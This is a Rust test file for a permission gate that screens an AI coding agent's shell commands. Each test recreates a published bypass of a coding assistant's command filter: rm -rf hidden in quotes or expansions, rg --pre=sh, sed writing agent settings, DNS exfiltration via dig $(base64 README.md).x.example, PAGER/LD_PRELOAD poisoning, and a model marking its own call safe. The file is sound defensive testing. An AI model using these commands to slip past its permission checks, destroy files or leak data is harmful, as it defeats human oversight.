//! Filters for commands that were got around.

use permission::Verdict;
use protocol::{Access, PermissionMode};
use serde_json::json;

use crate::{Door, asks, dangers, is_allowed, is_denied, passes};

/// Claude Code, GHSA-xq4m-mc3c-vvg3. Held by `bash.exec_option`,
/// `bash.history`, `bash.git_program`, `bash.ifs`, `bash.parameter` and by
/// `unfold::inner_commands`.
#[test]
fn cve_2025_66032_eight_ways_past_a_filter() {
    dangers(&[
        ("man --html=id ls", "bash.exec_option"),
        ("sort --compress-prog=sh README.md", "bash.exec_option"),
        ("history -a .bashrc", "bash.history"),
        ("git ls-remote --upload-pa='touch x' o", "bash.git_program"),
        ("sed 's/x/id/e' README.md", "bash.exec_option"),
        ("echo src | xargs -t rm -rf", "bash.destroy"),
        ("rg TODO$IFS--pre=sh .", "bash.ifs"),
        ("echo ${a=\"$\"}${b=\"$a(id)\"}${b@P}", "bash.parameter"),
    ]);
}

/// Claude Code, GHSA-x56v-x2h6-7j34. Held by how `lex/words.rs` reads
/// quotes, escapes and substitutions.
#[test]
fn cve_2025_54795_echo_hides_nothing_behind_its_quotes() {
    dangers(&[
        ("echo \"\\\"\"; rm -rf src; echo \"\\\"\"", "bash.destroy"),
        ("echo '\\'; rm -rf src #'", "bash.destroy"),
        ("echo \"$(rm -rf src)\"", "bash.destroy"),
        ("echo \"`rm -rf src`\"", "bash.destroy"),
    ]);
    passes(&["echo '; rm -rf src'", "echo \"\\\"; rm -rf src; \\\"\""]);
}

/// Claude Code, GHSA-qxfv-fcpc-w36x. Held by `bash.exec_option` and by the
/// options of `rg` in `schema/table.rs`.
#[test]
fn cve_2025_58764_rg_runs_no_other_program() {
    dangers(&[
        ("rg TODO --pre=sh .", "bash.exec_option"),
        ("rg -F '--pre=sh' README.md", "bash.exec_option"),
        ("rg --hostname-bin=./x TODO", "bash.exec_option"),
    ]);
    asks(&[("rg TODO --pre=sh .", "bash.option")]);
    passes(&["rg -F TODO README.md"]);
}

/// Claude Code, GHSA-7mv8-j34q-vp7q. Held by `bash.exec_option` and by
/// `schema/sed.rs`.
#[test]
fn cve_2025_64755_sed_writes_no_file() {
    let writes = [
        "sed 'w x' README.md",
        "sed -n 's/x/y/w src/a' README.md",
        "sed 's/x/y/gw x' README.md",
        "sed -i s/a/b/ README.md",
    ];
    for command in writes {
        asks(&[(command, "bash.option")]);
    }
    dangers(&[
        ("sed 'w x' README.md", "bash.exec_option"),
        ("sed -i s/a/b/ README.md", "bash.exec_option"),
    ]);
    passes(&["sed -n 's/x/y/p' README.md"]);
}

/// Claude Code, GHSA-mhg7-666j-cqg4. Held by `bash.protected_write`, which
/// looks into programs of sed.
#[test]
fn cve_2026_25723_a_pipe_into_sed_changes_no_settings() {
    let command = "echo '{}' | sed -n 'w .claude/settings.json'";
    dangers(&[(command, "bash.protected_write")]);
    let verdict = Door::new().run(command, PermissionMode::Bypass);
    assert!(!is_allowed(&verdict), "{verdict:?}");
}

/// Claude Code, GHSA-qgqw-h4xq-7w8w. Held by `bash.exec_option` and by
/// `schema/find.rs`.
#[test]
fn cve_2026_24887_find_only_finds() {
    for action in [
        "-fprint x",
        "-fprint0 x",
        "-fprintf x %p",
        "-fls x",
        "-delete",
    ] {
        let command = format!("find . {action}");
        dangers(&[(&command, "bash.exec_option")]);
        asks(&[(&command, "bash.option")]);
    }
    passes(&["find . -name exec -o -name delete"]);
}

/// Amazon Q Developer: `find` was on the list, whatever it was told. Held by
/// the same, and by `unfold::runs_after`.
#[test]
fn amazon_q_find_runs_no_program() {
    for action in ["-exec", "-execdir", "-ok", "-okdir"] {
        let command = format!("find . {action} rm -rf {{}} \\;");
        dangers(&[(&command, "bash.exec_option"), (&command, "bash.destroy")]);
        asks(&[(&command, "bash.option")]);
    }
}

/// Claude Code, GHSA-66q4-vfjg-2qhh. Held by `flow::follow` under
/// `bash.protected_write`.
#[test]
fn cve_2026_25722_a_write_is_judged_where_it_happens() {
    dangers(&[
        (
            "cd .claude && echo x > settings.json",
            "bash.protected_write",
        ),
        ("cd .git/hooks; echo x > pre-commit", "bash.protected_write"),
        ("pushd .vscode && tee settings.json", "bash.protected_write"),
        ("cd src && cd ../.claude && touch x", "bash.protected_write"),
    ]);
}

/// Claude Code, GHSA-q728-gf8j-w49r. Held by `bash.zsh` and by the operators
/// of `Lexer::redirect` under `bash.protected_write`.
#[test]
fn cve_2026_24053_a_forced_redirection_is_one() {
    dangers(&[
        ("echo x >| .bashrc", "bash.protected_write"),
        ("echo x >! src/x", "bash.zsh"),
        ("echo x >>! src/x", "bash.zsh"),
        ("echo x >>| src/x", "bash.zsh"),
    ]);
}

/// Claude Code, GHSA-x5gv-jw7f-j6xj. Held by what is not in
/// `schema/table.rs`, and by `bash.exfiltration`.
#[test]
fn cve_2025_55284_no_name_is_resolved_unasked() {
    for program in [
        "ping",
        "nslookup",
        "dig",
        "host",
        "drill",
        "kdig",
        "getent",
        "whois",
        "traceroute",
        "resolvectl",
        "curl",
        "wget",
        "nc",
    ] {
        asks(&[(&format!("{program} x.example"), "bash.unlisted")]);
    }
    dangers(&[
        ("dig $(base64 README.md).x.example", "bash.exfiltration"),
        ("ping -c1 `id -un`.x.example", "bash.exfiltration"),
    ]);
}

/// Cursor, GHSA-82wg-qcm4-fp2w. Held by `bash.assignment`.
#[test]
fn cve_2026_22708_builtins_poison_no_later_command() {
    dangers(&[
        ("export PAGER='sh -c id' && git branch", "bash.assignment"),
        ("typeset PATH=.; ls", "bash.assignment"),
        ("declare -x LD_PRELOAD=./x.so", "bash.assignment"),
        ("readonly NODE_OPTIONS=--require=./x", "bash.assignment"),
        ("local PERL5OPT=-Mx", "bash.assignment"),
    ]);
    asks(&[
        ("unset PATH", "bash.unlisted"),
        ("set -a", "bash.unlisted"),
        ("declare -x PAGER", "bash.unlisted"),
    ]);
}

/// Roo Code. Held by the lines of `Lexer::operator`.
#[test]
fn cve_2025_54377_a_second_line_is_a_second_command() {
    dangers(&[("ls\nrm -rf src", "bash.destroy")]);
    asks(&[("ls\ntouch x", "bash.unlisted")]);
}

/// Roo Code, GHSA-wrh9-463x-7wvv. Held by `bash.process_substitution` and
/// `bash.background`, and by reading what is inside.
#[test]
fn cve_2025_57771_neither_a_file_nor_an_ampersand_hides_a_command() {
    dangers(&[
        ("diff <(rm -rf src) README.md", "bash.destroy"),
        ("cat README.md > >(rm -rf src)", "bash.destroy"),
        ("ls & rm -rf src", "bash.destroy"),
    ]);
    asks(&[
        ("cat <(ls)", "bash.process_substitution"),
        ("ls & ls", "bash.background"),
    ]);
}

/// Roo Code, GHSA-p278-52x9-cffx. Held by `bash.parameter`.
#[test]
fn cve_2025_58370_an_expansion_may_hold_anything() {
    dangers(&[
        ("echo ${!x}", "bash.parameter"),
        ("echo ${x@P}", "bash.parameter"),
        ("ls \"${x:-$(rm -rf src)}\"", "bash.destroy"),
    ]);
    asks(&[
        ("ls ${x:=--help}", "bash.parameter"),
        ("ls $x", "bash.parameter"),
        ("ls \"$x\"", "bash.parameter"),
    ]);
}

/// Roo Code, GHSA-c292-qxq4-4p2v. Held by what is not in `schema/table.rs`.
#[test]
fn cve_2025_58374_no_installer_runs_unasked() {
    for command in [
        "npm install",
        "npm ci",
        "npm test",
        "pnpm i",
        "yarn",
        "yarn --version",
        "pip install x",
        "cargo build",
        "cargo --version",
        "make -n",
        "bundle",
        "composer install",
        "go generate",
    ] {
        asks(&[(command, "bash.unlisted")]);
    }
}

/// Roo Code. Held by `bash.zsh`.
#[test]
fn cve_2025_65946_zsh_runs_nothing_in_a_word() {
    dangers(&[
        ("ls =(id)", "bash.zsh"),
        ("ls *(e:id:)", "bash.zsh"),
        ("ls x*(+id)", "bash.zsh"),
    ]);
    asks(&[("echo =ls", "bash.zsh")]);
}

/// Zed. Held by `bash.parameter`, which sees every part of a word.
#[test]
fn cve_2026_44462_expansions_make_no_command_together() {
    dangers(&[
        ("echo ${x=1}${y=2}${x@P}", "bash.parameter"),
        ("echo \"a${x}b${y@P}\"", "bash.parameter"),
    ]);
}

/// Zed, GHSA-c3g6-c3ff-69cg. Held by `bash.assignment`, which no allow rule
/// answers.
#[test]
fn cve_2026_44463_a_rule_for_git_allows_no_variable_before_it() {
    let door = Door::with_rules(&["Bash(git diff *)"], &[]);
    assert!(is_allowed(
        &door.run("git diff --stat", PermissionMode::Ask)
    ));
    for command in [
        "PAGER='curl x' git diff",
        "X=1 git diff",
        "A=b PAGER=x git diff",
    ] {
        let verdict = door.run(command, PermissionMode::Ask);
        assert!(matches!(verdict, Verdict::Ask(_)), "{command}: {verdict:?}");
    }
    dangers(&[("PAGER='curl x' git diff", "bash.assignment")]);
}

/// Zed, GHSA-rqq3-p6x4-q866. Held by `bash.arithmetic`, `bash.parameter` and
/// by reading what is inside.
#[test]
fn cve_2026_44466_arithmetic_is_code() {
    dangers(&[
        ("echo $(( x[$(rm -rf src)] ))", "bash.destroy"),
        ("(( x = $(rm -rf src) ))", "bash.destroy"),
    ]);
    asks(&[
        ("echo $((x + 1))", "bash.arithmetic"),
        ("echo $[1 + 1]", "bash.arithmetic"),
        ("((1))", "bash.parameter"),
    ]);
    passes(&["echo $((1 + 1))"]);
}

/// Warp, GHSA-3839-h8jj-ph82. Held by `is_assignment` in `lex.rs`: a rule
/// looks at the program, not at what stands before it.
#[test]
fn cve_2026_48721_a_variable_gets_no_command_past_a_deny_rule() {
    let door = Door::with_rules(&[], &["Bash(curl *)"]);
    for command in [
        "curl x",
        "A=b curl x",
        "A=b C+=d E[0]=f curl x",
        "ls && A= curl x",
    ] {
        let verdict = door.run(command, PermissionMode::Bypass);
        assert!(is_denied(&verdict), "{command}: {verdict:?}");
    }
}

/// Google Antigravity: `fd -X` behind a tool that only finds. Held by
/// `bash.exec_option` and by the options of `fd` in `schema/table.rs`.
#[test]
fn antigravity_fd_runs_nothing_it_finds() {
    for option in ["-x", "-X", "--exec", "--exec-batch", "-HX"] {
        let command = format!("fd {option} rm");
        dangers(&[(&command, "bash.exec_option")]);
        asks(&[(&command, "bash.option")]);
    }
    passes(&["fd -H main"]);
}

/// Cline: a field of the call let the model say that it is safe. Held by what
/// `Gate::judge` does not look at.
#[test]
fn cve_2026_52025_the_models_word_counts_for_nothing() {
    let door = Door::new();
    let said = json!({
        "requires_approval": false, "safe": true, "is_read_only": true, "approved": true,
        "background": true, "dangerously_disable_sandbox": true,
    });
    let access = Access::Execute {
        command: "touch x".to_owned(),
        cwd: door.ws().display().to_string(),
    };
    for mode in [
        PermissionMode::Ask,
        PermissionMode::Edits,
        PermissionMode::Auto,
    ] {
        let verdict = door.judge("bash", said.clone(), access.clone(), mode);
        assert!(matches!(verdict, Verdict::Ask(_)), "{mode:?}: {verdict:?}");
    }
}

/// Codex, pull requests 27041 and 28714. Held by what is not in
/// `schema/table.rs`.
#[test]
fn codex_27041_git_runs_what_a_repository_names() {
    for verb in [
        "status", "diff", "log -p", "show", "blame x", "branch", "grep x", "ls-files",
    ] {
        asks(&[(&format!("git {verb}"), "bash.unlisted")]);
    }
}

/// Codex: an external diff. Held by `bash.git_program`.
#[test]
fn codex_external_diff_is_a_program() {
    dangers(&[
        ("git diff --ext-diff", "bash.git_program"),
        ("git -c diff.external=sh diff", "bash.git_program"),
        ("git --config-env=diff.external=X diff", "bash.git_program"),
        ("git log -p --textc", "bash.git_program"),
    ]);
}
